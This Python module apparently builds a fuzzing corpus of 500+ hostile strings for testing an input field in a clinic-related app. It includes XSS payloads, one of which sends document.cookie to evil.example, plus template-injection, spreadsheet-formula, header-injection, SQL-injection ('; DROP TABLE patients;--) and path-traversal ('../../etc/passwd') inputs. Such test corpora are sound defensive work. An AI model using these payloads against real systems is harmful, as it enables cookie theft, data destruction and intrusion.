"""Five hundred texts that somebody hostile types into a field: markup, scripts, formulas, breaks of lines, odd letters."""

import itertools

FOREIGN = "evil.example"
CALLS = (
    "ran(1)",
    "alert(1)",
    f"fetch('https://{FOREIGN}/'+document.cookie)",
    f"location='//{FOREIGN}'",
)
MARKUP = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "<script src=//evil.example/x.js></script>{}",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    '"><img src=x onerror={}>',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg/onload={}//",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "<a href=//evil.example>{}</a>",
    "<form action=//evil.example><input name=q value={}>",
    "<input autofocus onfocus={}>",
    '" autofocus onfocus="{}',
    "' autofocus onfocus='{}",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<math><mi xlink:href=javascript:{}>x",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<style>@import '//evil.example';</style>{}",
    "<link rel=stylesheet href=//evil.example>{}",
    "<meta http-equiv=refresh content='0;url=//evil.example'>{}",
    "<base href=//evil.example>{}",
    "<marquee onstart={}>",
    "<template><script>{}</script></template>",
    "<!--><script>{}</script>-->",
    "<![CDATA[<script>{}</script>]]>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "`-{}-`",
    "';{};//",
    '";{};//',
    "</script><script>{}</script>",
    "]]><script>{}</script>",
)
TEMPLATES = (
    "{{7*7}}",
    "{% print(7*7) %}",
    "{{config}}",
    "{{''.__class__.__mro__}}",
    "{{cycler.__init__.__globals__.os}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{name}",
    "{0.__class__}",
    "{clinic.privacy_contact}",
    "%(name)s",
    "%s%n%x",
    "{",
    "}",
    "{{",
    "}}",
)
FORMULAS = tuple(
    f"{start}{rest}"
    for start in ("=", "+", "-", "@", "\t=", "\r=", " =", "＝", "'=", '"=')
    for rest in (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://evil.example";"x")',
        "IMPORTXML(A1)",
        "SUM(A1:A9)",
    )
)
BREAKS = tuple(
    f"Ana{end}{rest}"
    for end in ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\u2029", "\x0b", "\x85")
    for rest in (
        "Set-Cookie: a=b",
        "Location: https://evil.example",
        "\r\n<script>ran(1)</script>",
        "X: y",
    )
)
SQL = (
    "' OR '1'='1",
    '" OR ""="',
    "'; DROP TABLE patients;--",
    "1; SELECT 1",
    "admin'--",
    "') OR ('1'='1",
    "\\'; --",
    '{"$gt": ""}',
    "#pk",
    ":pk",
    "CLINIC#aaaaaaaa",
    "attribute_exists(pk)",
    "../../etc/passwd",
    "..%2f..%2f",
    "C:\\x",
)
LETTERS = (
    "\u202eanA",
    "\u202aAna\u202c",
    "\u2066Ana\u2069",
    "A\u200bna",
    "A\u200dna",
    "\ufeffAna",
    "An\u00ada",
    "A" + "\u0301" * 50,
    "Z̷̢a̵l̶g̷o̸",
    "👩🏽‍⚕️",
    "🇲🇽",
    "👨‍👩‍👧‍👦",
    "Ａｎａ",
    "Аna",
    "Ana\x00",
    "\x00",
    "\x1b[31mAna",
    "Ana\x7f",
    "ñandú",
    "أنا",
    "אנא",
    "安娜",
    "\ud83d",
    "�",
    "A" * 1_000,
    "A" * 5_000,
    "<" * 1_000,
    "&" * 1_000,
    "á" * 2_000,
    "𝕬𝖓𝖆",
    "Ⅷ",
    "ﷺ",
    "null",
    "undefined",
    "NaN",
    "",
)
URLS = tuple(
    f"{scheme}{FOREIGN}{rest}"
    for scheme in (
        "http://",
        "https://",
        "//",
        "\\\\",
        "https:",
        "http:///",
        "ftp://",
        "wa.me@",
        "https://wa.me@",
    )
    for rest in ("", "/?q=1", "#x", ":80/", "/%2e%2e")
)


def hostile_texts():
    """Return all of them, each once, at least five hundred."""
    scripts = (frame.replace("{}", call) for frame, call in itertools.product(MARKUP, CALLS))
    spread = (f"Ana {frame.replace('{}', 'ran(2)')} López" for frame in MARKUP)
    behind = (
        f"{frame.replace('{}', 'ran(3)')}{end}" for frame in MARKUP for end in ("=1+1", "\r\nX: y")
    )
    found = [*scripts, *spread, *behind, *TEMPLATES, *FORMULAS, *BREAKS, *SQL, *LETTERS, *URLS]
    return list(dict.fromkeys(found))
